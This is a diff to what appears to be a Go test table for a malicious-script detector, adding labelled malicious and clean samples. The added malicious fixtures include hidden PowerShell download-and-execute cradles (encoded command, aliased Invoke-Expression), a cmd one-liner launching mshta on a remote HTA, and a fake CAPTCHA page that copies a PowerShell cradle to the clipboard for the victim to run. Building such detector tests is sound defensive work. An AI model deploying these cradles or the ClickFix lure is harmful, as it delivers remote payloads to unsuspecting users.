@@ -156,7 +156,34 @@ t = ChrW(&H73) & ChrW(99) & ChrW(104) & ChrW(50 + 66) & ChrW(97) & ChrW(115) & C
 sh.Run t & " /create /sc onlogon /tn Sync /tr ""wscript.exe %APPDATA%\sync.vbs"" /f", 0
 `)},
 
+		{Name: "start-process-enc.ps1", Want: verdict.Malicious, Why: "PowerShell: Start-Process of a hidden PowerShell whose -EncodedCommand is a cradle", Data: []byte(`$a = '-nop -w hidden -enc ` + PSEncode("iex (irm "+stageURL+")") + `'
+Start-Process -FilePath powershell.exe -ArgumentList $a -WindowStyle Hidden
+`)},
+		{Name: "alias-iex.ps1", Want: verdict.Malicious, Why: "PowerShell: Invoke-Expression behind a harmless-looking alias, fed by Invoke-RestMethod", Data: []byte(`Set-Alias -Name Update-Help2 -Value ('Invoke-' + 'Expression')
+Update-Help2 (Invoke-RestMethod -Uri ` + stageURL + `)
+`)},
+		{Name: "delayed-oneliner.cmd", Want: verdict.Malicious, Why: "batch one-liner: cmd /v delayed expansion assembles mshta of a remote HTA", Data: crlf(`@cmd /v:on /c "set m=ms&&set h=hta&&set u=` + htaURL + `&&!m!!h! !u!"
+`)},
+		{Name: "clickfix.html", Want: verdict.Malicious, Why: "fake CAPTCHA page copying a hidden PowerShell cradle to the clipboard for Win+R (ClickFix)", Data: []byte(`<!DOCTYPE html><html><head><title>Verify you are human</title></head><body>
+<div id="box"><p>To prove you are not a robot: 1. press Win+R  2. press Ctrl+V  3. press Enter</p>
+<button id="ok">I'm not a robot</button></div>
+<script>
+document.getElementById("ok").addEventListener("click", function () {
+  var c = "power" + "shell -w h -nop -c \"iex (irm '` + stageURL + `')\"" + " # Cloudflare verification ID 4711";
+  navigator.clipboard.writeText(c);
+});
+</script></body></html>`)},
+
 		// --- clean look-alikes ---
+		{Name: "clean-copy-button.html", Want: verdict.Clean, Why: "documentation page with copy-to-clipboard buttons for install commands", Data: []byte(`<!DOCTYPE html><html><head><title>Install</title></head><body>
+<h1>Install the tool</h1><pre id="a">winget install Example.Tool</pre><button data-copy="a">Copy</button>
+<pre id="b">powershell -Command "Get-FileHash .\tool.zip"</pre><button data-copy="b">Copy</button>
+<script>
+document.querySelectorAll("button[data-copy]").forEach(function (b) {
+  b.onclick = function () { navigator.clipboard.writeText(document.getElementById(b.dataset.copy).textContent); };
+});
+var tip = "Tip: run " + "powershell -Command Get-Date" + " to check the clock";
+</script></body></html>`)},
 		{Name: "clean-vars.bat", Want: verdict.Clean, Why: "batch with set variables, substrings and downloads it never runs", Data: crlf(`@echo off
 setlocal
 set "stamp=%date:~-4,4%%date:~-7,2%%date:~-10,2%"
